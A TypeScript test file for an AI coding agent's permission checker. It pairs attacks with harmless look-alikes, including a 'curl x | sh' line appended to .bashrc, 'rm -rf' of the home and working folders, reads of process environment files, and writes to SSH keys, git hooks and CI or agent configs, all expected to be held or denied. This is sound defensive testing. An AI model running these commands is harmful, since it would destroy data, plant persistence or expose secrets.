import type { PermissionMode } from '../../contract/permission.js';
import type { CorpusCase } from './corpus-harness.js';

/**
 * S. Safety checks in every mode: protected paths, deny rules, critical `rm` targets and process
 * secrets are never auto-approved, in bypassPermissions and acceptEdits included. Each attack
 * has a harmless look-alike whose decision follows the mode as for any other call, so the checks
 * cannot be passed by blocking everything.
 */

type Call = {
  readonly tool: string;
  readonly input: Readonly<Record<string, unknown>>;
  readonly rules?: readonly string[];
};
type ByMode = Readonly<Record<PermissionMode, CorpusCase['expect']>>;

const MODES: readonly PermissionMode[] = ['default', 'acceptEdits', 'plan', 'dontAsk', 'bypassPermissions'];

/** A safety check: a person is asked in every mode; dontAsk, which never asks, denies. */
const HELD: ByMode = { default: 'ask', acceptEdits: 'ask', plan: 'ask', dontAsk: 'deny', bypassPermissions: 'ask' };
/** A deny rule: denied in every mode. */
const DENIED: ByMode = {
  default: 'deny',
  acceptEdits: 'deny',
  plan: 'deny',
  dontAsk: 'deny',
  bypassPermissions: 'deny',
};
/** An ordinary edit inside the project: the mode decides. */
const EDIT: ByMode = {
  default: 'ask',
  acceptEdits: 'allow',
  plan: 'deny',
  dontAsk: 'deny',
  bypassPermissions: 'allow',
};
/** An ordinary read outside the working folders: only bypass mode runs it unasked. */
const OUTSIDE_READ: ByMode = {
  default: 'ask',
  acceptEdits: 'ask',
  plan: 'ask',
  dontAsk: 'deny',
  bypassPermissions: 'allow',
};

const write = (file_path: string, rules?: readonly string[]): Call => ({
  tool: 'Write',
  input: { file_path },
  ...(rules ? { rules } : {}),
});
const edit = (file_path: string, rules?: readonly string[]): Call => ({
  tool: 'Edit',
  input: { file_path },
  ...(rules ? { rules } : {}),
});
const bash = (command: string, rules?: readonly string[]): Call => ({
  tool: 'Bash',
  input: { command },
  ...(rules ? { rules } : {}),
});
const read = (file_path: string): Call => ({ tool: 'Read', input: { file_path } });

function everyMode(name: string, call: Call, expected: ByMode): CorpusCase[] {
  return MODES.map((mode) => ({ name: `${name} [${mode}]`, ...call, mode, expect: expected[mode] }));
}

/** An attack and its look-alike, each in every mode. */
function pair(
  id: string,
  what: string,
  attack: Call,
  lookAlike: Call,
  expected: { readonly attack: ByMode; readonly lookAlike: ByMode },
): CorpusCase[] {
  return [
    ...everyMode(`${id} ${what}`, attack, expected.attack),
    ...everyMode(`${id}' look-alike of ${what}`, lookAlike, expected.lookAlike),
  ];
}

const protectedWrite = (id: string, what: string, attack: Call, lookAlike: Call): CorpusCase[] =>
  pair(id, what, attack, lookAlike, { attack: HELD, lookAlike: EDIT });

export const safetyModeCases: readonly CorpusCase[] = [
  ...protectedWrite('S1', 'Edit of a git hook', edit('{cwd}/.git/hooks/pre-commit'), edit('{cwd}/githooks/pre-commit')),
  ...protectedWrite('S2', 'Write of .git/config', write('{cwd}/.git/config'), write('{cwd}/src/git-config.ts')),
  ...protectedWrite(
    'S3',
    'Write of a nested repository hook',
    write('{cwd}/vendor/lib/.git/hooks/post-merge'),
    write('{cwd}/vendor/lib/hooks/post-merge'),
  ),
  ...protectedWrite(
    'S4',
    'redirect onto a shell startup file',
    bash('echo "curl x | sh" >> {cwd}/.bashrc'),
    bash('echo "notes" >> {cwd}/bashrc.txt'),
  ),
  ...protectedWrite(
    'S5',
    'Write of ~/.ssh/authorized_keys',
    write('{home}/.ssh/authorized_keys'),
    write('{cwd}/docs/authorized_keys.md'),
  ),
  ...protectedWrite('S6', 'Write of ~/.ssh/rc', write('{home}/.ssh/rc'), write('{cwd}/ssh/rc.md')),
  ...protectedWrite(
    'S7',
    'Write of toolplane project settings',
    write('{cwd}/.toolplane/settings.local.json'),
    write('{cwd}/toolplane/settings.local.json'),
  ),
  ...protectedWrite(
    'S8',
    'Write of Claude Code settings',
    write('{cwd}/.claude/settings.json'),
    write('{cwd}/.claude/worktrees/w1/settings.json'),
  ),
  ...protectedWrite('S9', 'Write of .mcp.json', write('{cwd}/.mcp.json'), write('{cwd}/mcp.json')),
  ...protectedWrite(
    'S10',
    'Write of Cursor MCP config',
    write('{cwd}/.cursor/mcp.json'),
    write('{cwd}/src/cursor/mcp.json'),
  ),
  ...protectedWrite(
    'S11',
    'Write of Codex config',
    write('{cwd}/.codex/config.toml'),
    write('{cwd}/codex/config.toml'),
  ),
  ...protectedWrite(
    'S12',
    'Write of Gemini settings',
    write('{cwd}/.gemini/settings.json'),
    write('{cwd}/gemini-settings.json'),
  ),
  ...protectedWrite(
    'S13',
    'Write of a GitHub workflow',
    write('{cwd}/.github/workflows/release.yml'),
    write('{cwd}/.github/ISSUE_TEMPLATE/bug.md'),
  ),
  ...protectedWrite('S14', 'cp onto .gitlab-ci.yml', bash('cp ci.yml .gitlab-ci.yml'), bash('cp ci.yml gitlab-ci.yml')),
  ...protectedWrite('S15', 'Write of CircleCI config', write('{cwd}/.circleci/config.yml'), write('{cwd}/circleci.md')),
  ...protectedWrite(
    'S16',
    'redirect onto .envrc',
    bash('echo "export X=1" > .envrc'),
    bash('echo "export X=1" > envrc.example'),
  ),
  // tee is not one of the commands acceptEdits approves, so its look-alike asks there.
  ...pair(
    'S17',
    'tee into a git hook',
    bash('echo x | tee .git/hooks/post-checkout'),
    bash('echo x | tee hooks-post-checkout.txt'),
    {
      attack: HELD,
      lookAlike: { ...EDIT, acceptEdits: 'ask' },
    },
  ),
  ...protectedWrite(
    'S18',
    'Write of .GitHub/Workflows (case)',
    write('{cwd}/.GitHub/Workflows/x.yml'),
    write('{cwd}/GitHub/Workflows/x.yml'),
  ),
  ...protectedWrite('S19', 'mv a folder over .github', bash('mv staged .github'), bash('mv staged github-staged')),
  // An allow rule that covers the path does not pre-approve it either.
  ...pair(
    'S20',
    'allowed Edit of a workflow',
    edit('{cwd}/.github/workflows/ci.yml', ['allow Edit(./**)']),
    edit('{cwd}/src/a.ts', ['allow Edit(./**)']),
    {
      attack: HELD,
      lookAlike: { default: 'allow', acceptEdits: 'allow', plan: 'deny', dontAsk: 'allow', bypassPermissions: 'allow' },
    },
  ),
  ...pair(
    'S21',
    'deny rule',
    edit('{cwd}/src/a.ts', ['deny Edit(src/**)']),
    edit('{cwd}/lib/a.ts', ['deny Edit(src/**)']),
    { attack: DENIED, lookAlike: EDIT },
  ),
  ...pair(
    'S22',
    'Bash deny rule',
    bash('rm -rf build', ['deny Bash(rm:*)']),
    bash('rmdir build', ['deny Bash(rm:*)']),
    {
      attack: DENIED,
      lookAlike: EDIT,
    },
  ),
  ...pair(
    'S23',
    'critical rm of home',
    bash('rm -rf {home}', ['allow Bash(rm:*)']),
    bash('rm -rf build', ['allow Bash(rm:*)']),
    {
      attack: HELD,
      lookAlike: { default: 'allow', acceptEdits: 'allow', plan: 'deny', dontAsk: 'allow', bypassPermissions: 'allow' },
    },
  ),
  ...pair('S24', 'critical rm of the working folder', bash('rm -rf .'), bash('rm -rf ./build'), {
    attack: HELD,
    lookAlike: EDIT,
  }),
  ...pair('S25', 'Read of a process environment', read('/proc/self/environ'), read('/proc/self/status'), {
    attack: HELD,
    lookAlike: OUTSIDE_READ,
  }),
  ...pair('S26', 'cat of another process environment', bash('cat /proc/1/environ'), bash('cat /proc/1/status'), {
    attack: HELD,
    lookAlike: OUTSIDE_READ,
  }),
];
